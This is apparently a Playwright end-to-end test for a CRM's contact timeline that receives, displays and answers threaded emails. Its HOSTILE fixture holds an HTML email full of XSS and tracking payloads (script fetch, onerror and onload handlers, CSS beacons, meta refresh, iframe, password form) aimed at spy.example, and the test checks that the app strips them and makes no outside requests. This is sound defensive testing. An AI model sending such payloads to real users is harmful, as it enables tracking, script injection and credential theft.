import type { Page } from "@playwright/test";
import { startDeployment } from "./deployment.ts";
import { ADDRESS, PASSWORD, startMailbox } from "./mailbox.ts";
import { section, show } from "./profile.ts";
import {
  api,
  clickForToast,
  expect,
  expectAccessible,
  expectNoSidewaysScroll,
  fill,
  freshName,
  isPhone,
  signInByApi,
  visitorTest,
} from "./support.ts";

const test = visitorTest.extend<object, { site: { url: string } }>({
  site: [
    async ({ browserName: _ }, use) => {
      const { url, stop } = await startDeployment({ ALLOW_PRIVATE_HOSTS: "1" });
      await use({ url });
      await stop();
    },
    { scope: "worker", timeout: 300_000 },
  ],
  baseURL: async ({ site }, use) => use(site.url),
});

const HOSTILE = `<html><head><style>@import url(https://spy.example/a.css); body { background: url(https://spy.example/b) }</style>
<link rel="prefetch" href="https://spy.example/c"><meta http-equiv="refresh" content="0;url=https://spy.example/d"><base href="https://spy.example/"></head>
<body><p>It is even lovelier in daylight! <a href="https://shop.example/rings">These rings</a>, too.</p>
<img src="https://spy.example/pixel.gif" srcset="https://spy.example/2.gif 2x" width="1" height="1">
<div style="background-image: url('https://spy.example/e'); color: #333">Could we move the fitting?</div>
<script>fetch("https://spy.example/f")</script><img src=x onerror="fetch('https://spy.example/g')">
<svg onload="fetch('https://spy.example/h')"></svg><iframe src="https://spy.example/i"></iframe>
<form action="https://spy.example/j"><input name="password"></form></body></html>`;

async function connectMailbox(page: Page, { imapPort, smtpPort }: { imapPort: number; smtpPort: number }) {
  await page.goto("/dashboard/settings/integrations");
  await page.getByRole("button", { name: /Connect .*Account|Change Email Account/ }).click();
  await page.getByRole("button", { name: "Enter server settings" }).click();
  await fill(page, {
    "Email address": ADDRESS,
    Password: PASSWORD,
    "SMTP server": "127.0.0.1",
    "IMAP server": "127.0.0.1",
  });
  const ports = page.getByLabel("Port");
  await ports.first().fill(String(smtpPort));
  await ports.last().fill(String(imapPort));
  await page.getByRole("button", { name: "Connect", exact: true }).click();
  await expect(page.getByText("Connected", { exact: true })).toBeVisible();
}

test("the last message can be answered with two clicks", {
  tag: "@desktop",
}, async ({ page, site }) => {
  const mailbox = await startMailbox();
  try {
    await signInByApi(page.context().request, site.url);
    await page.goto("/dashboard/contacts");
    const last = freshName();
    const email = `${last.toLowerCase()}@example.test`;
    const contact = { firstName: "Amara", lastName: last, email, phoneNumber: "" };
    await api(page, "POST", "/contacts/createContact", contact);
    const [from, to] = [`Amara ${last} <${email}>`, ADDRESS];
    const subject = `Your halo ring ${last}`;
    mailbox.put(
      72,
      { From: from, To: to, Subject: subject, "Message-ID": `<1${last}@x>` },
      "Can it be sized?",
    );
    mailbox.put(
      48,
      {
        From: to,
        To: from,
        Subject: `Re: ${subject}`,
        "Message-ID": `<2${last}@x>`,
        "In-Reply-To": `<1${last}@x>`,
      },
      "Of course.",
      ".Sent",
    );
    const html = { "Content-Type": "text/html; charset=utf-8", "In-Reply-To": `<2${last}@x>` };
    const ids = { "Message-ID": `<3${last}@x>`, References: `<1${last}@x> <2${last}@x>` };
    mailbox.put(2, { From: from, To: to, Subject: `Re: ${subject}`, ...ids, ...html }, HOSTILE);
    await connectMailbox(page, mailbox);
    const settings = page.getByRole("region", { name: "Email with your contacts" });
    await expect(settings).toContainText(ADDRESS);
    type Mailbox = { readAt: string | null };
    await expect.poll(async () => (await api<Mailbox>(page, "GET", "/mailbox")).readAt).not.toBeNull();
    await expectAccessible(page);

    const fetched: string[] = [];
    page.context().on("request", (request) => {
      const { protocol, hostname } = new URL(request.url());
      if (protocol.startsWith("http") && hostname !== "127.0.0.1") fetched.push(request.url());
    });
    await page.goto(`/dashboard/contacts?q=${last}`); // typed search
    await page.getByRole("link", { name: `Amara ${last}` }).click(); // click 1
    await show(page, "Timeline"); // click 2
    const timeline = section(page, "Timeline");
    const rows = timeline.locator(".timeline-row").filter({ hasText: subject });
    await expect(rows).toHaveCount(3);
    await expect(rows.first()).toContainText(`Amara ${last} to Priya Raman`);
    await expect(rows.first()).toContainText("It is even lovelier in daylight!");
    await expect(rows.first()).toContainText("Only you");
    await expect(rows.nth(1)).toContainText("Of course.");

    await rows
      .first()
      .getByRole("button", { name: `Re: ${subject}` })
      .click(); // click 3
    const dialog = page.getByRole("dialog");
    const body = dialog.frameLocator("iframe").locator("body");
    await expect(body).toContainText("Could we move the fitting?");
    await expect(body.getByRole("link", { name: "These rings" })).toHaveAttribute(
      "rel",
      /noopener noreferrer/,
    );
    await expect(body.locator("script, img, iframe, form, input, svg, style, link")).toHaveCount(0);
    await expect(dialog.getByRole("button", { name: /Priya Raman to/ })).toBeVisible();
    await expectAccessible(page);
    await expectNoSidewaysScroll(page);
    await dialog.getByRole("button", { name: "Reply" }).click();
    await dialog.getByLabel("Your answer").fill("Thursday at ten.\n\nPriya");
    await clickForToast(dialog.getByRole("button", { name: "Send answer" }), "On its way");
    await page.keyboard.press("Escape");
    await expect(rows).toHaveCount(4);
    await expect(rows.first()).toContainText("Thursday at ten.");
    await expect.poll(() => mailbox.sent.length).toBe(1);
    expect(mailbox.sent[0]).toContain(`In-Reply-To: <3${last}@x>`);
    expect(mailbox.sent[0]).toMatch(new RegExp(`References: <1${last}@x>\\s+<2${last}@x>\\s+<3${last}@x>`));
    await expect(rows.first()).not.toContainText(/Waiting to be sent|Being sent/);

    await clickForToast(rows.nth(1).getByRole("button", { name: "Share with the team" }), "Saved");
    await expect(rows.nth(1)).toContainText("Shared with the team");
    await expect(rows.last()).toContainText("Shared with the team");

    if (isPhone(page)) await page.getByRole("button", { name: "Note, mail, text or task…" }).click();
    await page.getByRole("tablist", { name: "What to add" }).getByRole("tab", { name: "Mail" }).click();
    await fill(page, { Subject: "Your receipt", Text: "Here it is." });
    await expectAccessible(page);
    await clickForToast(page.getByRole("button", { name: "Send email" }), "On its way");
    await expect(timeline.locator(".timeline-row").first()).toContainText("Your receipt");
    await expect.poll(() => mailbox.sent.length).toBe(2);
    expect(fetched).toEqual([]);
  } finally {
    await mailbox.end();
  }
});
